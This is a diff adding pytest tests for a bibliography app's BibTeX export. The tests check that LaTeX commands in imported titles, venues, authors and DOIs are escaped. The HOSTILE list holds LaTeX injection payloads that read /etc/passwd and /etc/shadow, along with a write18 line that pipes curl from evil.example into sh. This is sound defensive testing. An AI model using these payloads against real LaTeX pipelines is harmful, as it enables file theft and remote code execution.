@@ -167,3 +167,78 @@ def test_import_report_csv_lists_every_record_with_its_outcome(
     assert [row["status"] for row in rows] == ["created", "failed"]
     assert rows[0]["title"] == "A good entry" and rows[0]["paper"]
     assert rows[1]["line_start"] == "6" and "no title" in rows[1]["error"]
+
+
+def _latex_macros(value: str) -> list[str]:
+    """Every macro a LaTeX run would execute in ``value`` (pylatexenc's parser, not ours)."""
+    from pylatexenc.latexwalker import LatexMacroNode, LatexWalker
+
+    found: list[str] = []
+
+    def walk(nodes) -> None:
+        for node in nodes or []:
+            if node is None:
+                continue
+            if node.isNodeType(LatexMacroNode):
+                found.append(node.macroname)
+            walk(getattr(node, "nodelist", None))
+            arguments = getattr(node, "nodeargd", None)
+            if arguments is not None and arguments.argnlist:
+                walk(arguments.argnlist)
+
+    walk(LatexWalker(value, tolerant_parsing=True).get_latex_nodes()[0])
+    return found
+
+
+HOSTILE = [
+    r"\input{/etc/passwd}",
+    r"Deep nets \immediate\write18{curl evil.example | sh}",
+    r"T\"ULU \def\title{pwned}\title",
+    r"Bounds for $\input{/etc/passwd}$ and $\mathcal{O}(n)$",
+    r"^^5cinput{/etc/passwd} and \'e",
+    r"\csname input\endcsname{/etc/shadow}",
+    r"\catcode`\^^M=13 \include{x}",
+    "Trailing backslash \\",
+]
+# What a careful export may leave for LaTeX to run: accents, formatting, escaped specials, math.
+SAFE_MACROS = {
+    '"', "'", "`", "^", "~", "=", ".", "&", "%", "$", "#", "_", "{", "}", "c", "emph",
+    "textbackslash", "textasciicircum", "textasciitilde", "mathcal", "alpha",
+}  # fmt: skip
+
+
+def test_bibtex_export_never_passes_on_latex_commands_from_imported_text(db):
+    author = make_author("Ada Lovelace")
+    for index, hostile in enumerate(HOSTILE):
+        paper = Paper.objects.create(
+            title=hostile,
+            slug=f"hostile-{index}",
+            year=2021,
+            kind="article",
+            venue=hostile,
+            abstract=f"Abstract: {hostile}",
+            doi=f"10.1000/{index}\\input{{x}}^^5c",
+        )
+        Authorship.objects.create(paper=paper, author=author, position=0, name_as_written="Ada Lovelace")
+        Authorship.objects.create(
+            paper=paper, author=make_author(f"Eve {index}"), position=1, name_as_written=hostile
+        )
+
+    text = works_bibtex(works_of(author))
+    library = bibtexparser.parse_string(text)
+    assert library.failed_blocks == [] and len(library.entries) == len(HOSTILE)
+    assert "^^" not in text
+    for entry in library.entries:
+        for field in entry.fields:
+            run = set(_latex_macros(field.value)) - SAFE_MACROS
+            assert not run, f"{entry.key}.{field.key} would run {run}: {field.value}"
+        assert "\\" not in entry.fields_dict["doi"].value
+
+    # The hostile text is still there to read, as text.
+    titles = {record.title for record in bibtex_format.parse(text).records}
+    assert any("input" in title and "/etc/passwd" in title for title in titles)
+
+
+def test_allowed_latex_is_kept():
+    assert bibtex_escape(r"\emph{Deep} T\"ULU \c{c}a $\alpha^2$") == r"\emph{Deep} T\"ULU \c{c}a $\alpha^2$"
+    assert bibtex_escape(r"A \input{x} b") == r"A \textbackslash{}input{x} b"
